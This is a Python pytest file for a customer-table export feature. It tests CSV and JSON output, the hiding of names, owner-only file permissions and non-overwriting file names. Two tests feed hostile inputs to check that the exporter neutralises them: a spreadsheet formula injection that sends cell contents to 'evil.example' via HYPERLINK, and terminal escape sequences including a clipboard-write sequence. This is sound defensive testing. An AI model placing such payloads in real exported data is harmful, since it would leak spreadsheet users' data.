"""Exporting the table's rows: what a spreadsheet or a script gets, and that nothing unsafe gets through."""

from __future__ import annotations

import csv
import io
import json
import stat
from typing import TYPE_CHECKING

import pytest

from cybrid_tui.live.export import csv_cell, file_name, iso_time, to_csv, to_json, write_export
from cybrid_tui.live.rows import CustomerRow

if TYPE_CHECKING:
    from pathlib import Path

NOW = 1_795_608_000.0  # 2026-11-25 12:00:00 UTC


def row(guid: str = "a" * 32, *, name: str | None = "Ava Jones", labels: tuple[str, ...] = ()) -> CustomerRow:
    return CustomerRow(guid, "individual", "verified", name, labels, NOW - 60, NOW)


def parsed_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_has_a_header_and_the_rows_in_the_order_given() -> None:
    rows = [row("b" * 32, labels=("vip", "eu")), row("a" * 32, name=None)]
    lines = parsed_csv(to_csv(rows, include_names=True))
    assert lines[0] == ["guid", "type", "state", "name", "labels", "created_at", "updated_at"]
    assert lines[1] == [
        "b" * 32,
        "individual",
        "verified",
        "Ava Jones",
        "vip, eu",
        iso_time(NOW - 60),
        iso_time(NOW),
    ]
    assert lines[2][0] == "a" * 32 and lines[2][3] == ""
    assert iso_time(NOW) == "2026-11-25T12:00:00Z"
    assert iso_time(0.0) == ""


def test_hidden_names_are_not_exported() -> None:
    text = to_csv([row()], include_names=False)
    assert "Ava" not in text and "name" not in parsed_csv(text)[0]
    document = json.loads(to_json([row()], include_names=False))
    assert "name" not in document[0]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    lines = parsed_csv(to_csv([row(name=hostile, labels=(hostile,))], include_names=True))
    assert lines[1][3] == "'" + hostile
    assert lines[1][4] == "'" + hostile
    assert csv_cell("plain") == "plain"


def test_control_characters_never_reach_the_file() -> None:
    evil = "x\x1b]52;c;AAAA\x07\u202eyz"
    rows = [row(guid="g\x1b[2J" + "a" * 20, name=evil, labels=(evil,))]
    for text in (to_csv(rows, include_names=True), to_json(rows, include_names=True)):
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text


def test_json_is_an_array_of_objects_in_table_order() -> None:
    document = json.loads(to_json([row("b" * 32, labels=("vip",)), row("a" * 32)], include_names=True))
    assert [record["guid"] for record in document] == ["b" * 32, "a" * 32]
    assert document[0]["labels"] == ["vip"]
    assert document[0]["name"] == "Ava Jones"


def test_the_file_is_new_owner_only_and_never_overwrites(tmp_path: Path) -> None:
    first = write_export("one", "csv", directory=tmp_path, now=NOW)
    second = write_export("two", "csv", directory=tmp_path, now=NOW)
    assert first.name == file_name("csv", NOW) == "cybrid-customers-20261125-120000.csv"
    assert second.name == "cybrid-customers-20261125-120000-2.csv"
    assert first.read_text() == "one" and second.read_text() == "two"
    assert stat.S_IMODE(first.stat().st_mode) == 0o600


def test_an_unwritable_folder_raises_os_error(tmp_path: Path) -> None:
    with pytest.raises(OSError):
        write_export("x", "json", directory=tmp_path / "missing", now=NOW)
